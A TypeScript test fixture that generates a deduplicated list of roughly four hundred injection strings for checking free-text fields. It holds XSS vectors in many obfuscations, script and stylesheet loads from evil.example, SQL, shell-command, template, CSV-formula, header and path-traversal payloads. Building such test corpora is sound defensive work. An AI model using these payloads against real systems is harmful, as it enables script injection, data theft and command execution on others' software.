/**
 * Some four hundred texts that try to be more than text, made from their parts: what breaks out of where one stands, what
 * runs, and how it is written. Each calls the canary when anything runs it; none is longer than the shortest field.
 */

/** What every vector tries to call; `top`, so that it is heard from inside a frame. */
const RUN = 'top.__canary(1)';
/** The shortest field that takes free text (a person's name). */
export const SHORTEST = 100;

const OUT = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</select>',
  '</svg>',
];

/** Elements that run something by themselves, with the attribute they run. */
const EVENTS: readonly (readonly [element: string, attribute: string])[] = [
  ['img src=x', 'onerror'],
  ['image href=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a autofocus tabindex=0', 'onfocus'],
  ['details open', 'ontoggle'],
  ['dialog open', 'oncancel'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['x tabindex=0 autofocus', 'onfocusin'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['p style="transition:0s"', 'ontransitionend'],
  ['input type=image src=x', 'onerror'],
  ['track src=x', 'onerror'],
  ['meter', 'onmouseover'],
  ['form', 'onformdata'],
];

/** One element written in the ways filters forget. */
function written(element: string, attribute: string): string[] {
  const [name = '', ...rest] = element.split(' ');
  const more = rest.join(' ');
  const mixed = [...name].map((letter, n) => (n % 2 ? letter.toUpperCase() : letter)).join('');
  return [
    `<${element} ${attribute}=${RUN}>`,
    `<${element} ${attribute}="${RUN}">`,
    `<${mixed} ${more} ${attribute.toUpperCase()} = '${RUN}'>`,
    `<${[name, ...rest].join('/')}/${attribute}=${RUN}//`,
    `<${element} ${attribute}=&#116;op.__canary(1)>`,
    `<${element} ${attribute}=top[\`__canary\`]\`1\`>`,
  ];
}

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD50b3AuX19jYW5hcnkoMSk8L3NjcmlwdD4=',
  `vbscript:${RUN}`,
  `blob:${RUN}`,
  'view-source:javascript:1',
  '//evil.example/x.js',
  'http://evil.example@good.example/',
  'file:///etc/passwd',
];
const HOLDERS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">`,
  (address) => `<iframe src="${address}">`,
  (address) => `<object data="${address}">`,
  (address) => `<form action="${address}"><button>`,
  (address) => `<svg><a xlink:href="${address}"><text>x`,
  (address) => `<math href="${address}">x`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<script src="${address}"></script>`,
];

/** Markup that changes its meaning when it is read a second time. */
const TWICE = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=R>',
  '<svg></p><style><a id="</style><img src=1 onerror=R>">',
  '<noscript><p title="</noscript><img src=x onerror=R>">',
  '<math><mi><mglyph><svg><mtext><style><img src=x onerror=R>',
  '<svg><title><style><img src=x onerror=R></style>',
  '<svg><desc><img src=x onerror=R></desc></svg>',
  '<svg><foreignObject><img src=x onerror=R>',
  '<template><img src=x onerror=R></template>',
  '<select><template><img src=x onerror=R></template>',
  '<xmp><img src="</xmp><img src=x onerror=R>">',
  '<listing>&lt;img src=x onerror=R&gt;</listing>',
  '<plaintext><img src=x onerror=R>',
  '<!--><img src=x onerror=R>-->',
  '<!--!><img src=x onerror=R>',
  '<![CDATA[><img src=x onerror=R>]]>',
  '<?xml version="1.0"?><img src=x onerror=R>',
  '<!DOCTYPE x [<!ENTITY e "R">]><x>&e;</x>',
  '<img src="x` `<script>R</script>"` `>',
  '<div id="x"><x><a id=x name=y href=1></div>',
  '<form id=location><input name=href value=R></form>',
  '<iframe srcdoc="&lt;script&gt;R&lt;/script&gt;"></iframe>',
  '<style>@import"//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/)">x',
  '<p style="position:fixed;inset:0;z-index:99999">x',
  '<link rel=prefetch href=//evil.example/>',
  '<portal src="javascript:R"></portal>',
  '<script type=module>R</script>',
  '<script type=importmap>{"imports":{}}</script>',
  '<scr<script>ipt>R</scr</script>ipt>',
  '<<script>R//<</script>',
].map((text) => text.replaceAll('R', RUN));

const EXPRESSIONS = [
  '7*7',
  RUN,
  `constructor.constructor('${RUN}')()`,
  "this.constructor.constructor('return process')()",
  '__proto__.polluted=1',
  'range.constructor("return this")()',
  'request.application.__globals__',
  "''.__class__.__mro__[1]",
];
const BRACES: readonly (readonly [string, string])[] = [
  ['{{', '}}'],
  ['{{{', '}}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%= ', ' %>'],
  ['{% ', ' %}'],
  ['[[', ']]'],
  ['@(', ')'],
  ['{', '}'],
];

/** Text in other clothes: other encodings, other letters, other directions. */
const CLOTHES = [
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  '%3Cscript%3Etop.__canary(1)%3C/script%3E',
  '%253Cscript%253E',
  '\\u003cscript\\u003etop.__canary(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3etop.__canary(1)\\x3c/script\\x3e',
  '&lt;script&gt;top.__canary(1)&lt;/script&gt;',
  '&#x3c;script&#x3e;top.__canary(1)&#x3c;/script&#x3e;',
  '&#60script&#62top.__canary(1)&#60/script&#62',
  '&amp;lt;script&amp;gt;',
  '＜script＞top.__canary(1)＜/script＞',
  '‹script›top.__canary(1)‹/script›',
  '<ſcript>top.__canary(1)</ſcript>',
  '<scrıpt>top.__canary(1)</scrıpt>',
  '<\u200bscript>top.__canary(1)</\u200bscript>',
  '<scr\u200dipt>top.__canary(1)</scr\u200dipt>',
  '<img\u3000src=x\u3000onerror=top.__canary(1)>',
  '\ufeff<script>top.__canary(1)</script>',
  '\u05e9<script>top.__canary(1)</script>',
  'مرحبا <img src=x onerror=top.__canary(1)>',
  '警<script>top.__canary(1)</script>鐘',
  '𠮷<svg/onload=top.__canary(1)>',
  '👩‍👩‍👧<svg/onload=top.__canary(1)>',
  'Z͑ͫ̓ͪ<img src=x onerror=top.__canary(1)>',
  'а<script>top.__canary(1)</script>',
  'ad\u200bmin\u2060',
  '"\'`<>&;\\/=%00\\0',
  "';top.__canary(1)//",
  '";top.__canary(1)//',
  '`;top.__canary(1)//',
  "\\';top.__canary(1)//",
  '</script>";top.__canary(1)//',
  "' onmouseover='top.__canary(1)",
  '" autofocus onfocus="top.__canary(1)',
  "'; drop table cases; --",
  "' or '1'='1",
  '$(touch /tmp/x) `id` | id ; id && id',
  '../../../../etc/passwd',
  '%s%s%n %(x)s {0} {x}',
  '{number} {level} {organisation} {asked}',
  "=cmd|'/C calc'!A0",
  '+1+1 -1 @SUM(1)',
  'a, "b"; c <x@evil.example>',
  '=?utf-8?q?=0d=0aBcc:_x@evil.example?=',
  'x@evil.example\\r\\nBcc: y@evil.example',
  '%0d%0aSet-Cookie: a=b',
  '\\N \\. \\copy',
  '*)(uid=*))(|(uid=*',
  '(a+)+$ [[[[[[ ((((((',
  'null undefined NaN true [object Object]',
  '-0 1e309 0x7f ９９９',
];

const frame = (payload: string): string[] => OUT.map((out) => `${out}${payload}`);

/** Every vector, each once, as the product keeps it (NFC, trimmed). */
export const MANY_VECTORS: readonly string[] = [
  ...new Set(
    [
      ...frame(`<script>${RUN}</script>`),
      ...frame(`<img src=x onerror=${RUN}>`),
      ...frame(`<svg onload=${RUN}>`),
      ...EVENTS.flatMap(([element, attribute]) => written(element, attribute)),
      ...SCHEMES.flatMap((scheme) => HOLDERS.map((hold) => hold(scheme))),
      ...TWICE,
      ...BRACES.flatMap(([open, close]) => EXPRESSIONS.map((expression) => `${open}${expression}${close}`)),
      ...CLOTHES,
    ].map((text) => text.normalize('NFC').trim()),
  ),
].filter((text) => text.length <= SHORTEST);
